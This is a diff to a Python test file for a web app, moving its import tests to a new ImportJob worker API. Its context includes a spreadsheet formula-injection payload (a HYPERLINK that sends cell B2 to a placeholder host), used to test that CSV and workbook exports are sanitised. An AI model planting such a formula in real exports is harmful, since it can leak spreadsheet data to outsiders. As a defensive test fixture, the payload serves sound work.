@@ -41,7 +41,7 @@ from tests.processes import server
 from web.app import create_app
 from web.bootstrap import Services
 from web.platform.downloads import csv_response, workbook_response
-from web.platform.imports import CHUNK, ImportRunning, find_import, run_import, start_import
+from web.platform.imports import CHUNK, ImportJob, ImportRunning, find_import, start_import
 from web.platform.limits import limited_sign_in, phone_key
 from web.platform.ratelimit import (
     SIGN_IN_ACCOUNT,
@@ -51,6 +51,7 @@ from web.platform.ratelimit import (
 )
 from web.platform.settings import Settings, SettingsError, load_settings
 from web.platform.tabular import MAX_ROWS, TooManyRows, read_table
+from workers.jobs import work_until_idle
 
 FORMULA = '=HYPERLINK("http://x?leak="&B2,"Open")'
 LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -77,7 +78,7 @@ def exporting_world(services: Services) -> dict[str, str]:
     run(CheckIn(site, volunteer, "formula-in"), SYSTEM)
     run(CheckOut(site, volunteer, "formula-out"), SYSTEM)
     run(OpenTicket("hotline", "urgent_need", "01", FORMULA, FORMULA, "0223456789"), SYSTEM)
-    job = start_import(services.db, "households", "admin", str(point), [], list, "ar")
+    job = start_import(services.db, "households", SYSTEM, str(point), [], "ar")
     services.runner.catch_up()
     return {"admin": admin, "site": str(site), "job": job}
 
@@ -368,10 +369,9 @@ def test_an_import_report_grows_by_appending_its_rows(services: Services) -> Non
     refused = InvalidInput("bad row")
     rows = [{"national_id": str(n)} for n in range(40 * CHUNK)]
     db = Recording(services.db)
-    job = start_import(db, "households", "owner", "report-target", [], list, "en")
-    wait_until_finished(services, job)
-    db.written = 0
-    run_import(db, job, rows, lambda chunk: [refused] * len(chunk), "en")
+    job = start_import(services.db, "households", SYSTEM, "report-target", rows, "en")
+    refusing = ImportJob(db, lambda actor, target, chunk, keys: [refused] * len(chunk))
+    work_until_idle(db, {"households": refusing})
     report = find_import(services.db, job)["report"]
     assert [r["row"] for r in report] == list(range(2, len(rows) + 2))
     assert report[0]["code"] == "invalid_input"
@@ -390,13 +390,14 @@ def test_one_import_at_a_time_per_place(client: TestClient, services: Services) 
     point = importing_point(services)
     release = threading.Event()
 
-    def slow(chunk: list[dict[str, str]]) -> list[Any]:
+    def slow(actor: Any, target: str, chunk: list[dict[str, str]], keys: Any) -> list[Any]:
         release.wait(30)
         return ["created"] * len(chunk)
 
-    running = start_import(services.db, "households", "owner", point, [{}], slow, "en")
+    services.jobs["households"] = ImportJob(services.db, slow)  # the app's own worker runs it
+    running = start_import(services.db, "households", SYSTEM, point, [{}], "en")
     with pytest.raises(ImportRunning):
-        start_import(services.db, "households", "owner", point, [{}], slow, "en")
+        start_import(services.db, "households", SYSTEM, point, [{}], "en")
     sign_in(client, world["admin"])
     busy = upload(client, point, "h.csv", b"national_id,size\n29001010100011,4\n")
     assert busy.status_code == 409 and "still running" in busy.text
@@ -412,22 +413,17 @@ def pg_services(pg_settings: Settings) -> Iterator[Services]:
 
 
 def test_one_import_at_a_time_on_postgresql_too(pg_services: Services) -> None:
-    release = threading.Event()
-
-    def slow(chunk: list[dict[str, str]]) -> list[Any]:
-        release.wait(30)
-        return ["created"] * len(chunk)
-
     db = pg_services.db
-    running = start_import(db, "volunteers", "owner", "place", [{}], slow, "en")
+    running = start_import(db, "volunteers", SYSTEM, "place", [{}], "en")
     with pytest.raises(ImportRunning):
-        start_import(db, "volunteers", "owner", "place", [], list, "en")
-    other = start_import(db, "households", "owner", "place", [], list, "en")
-    release.set()
+        start_import(db, "volunteers", SYSTEM, "place", [], "en")
+    other = start_import(db, "households", SYSTEM, "place", [], "en")
+    created = ImportJob(db, lambda actor, target, chunk, keys: ["created"] * len(chunk))
+    assert work_until_idle(db, {"volunteers": created, "households": created}) == 2
     for job in (running, other):
-        wait_until_finished(pg_services, job)
+        assert find_import(db, job)["state"] == "finished"
     assert find_import(db, running)["created"] == 1
-    start_import(db, "volunteers", "owner", "place", [], list, "en")
+    start_import(db, "volunteers", SYSTEM, "place", [], "en")
 
 
 @pytest.mark.parametrize(
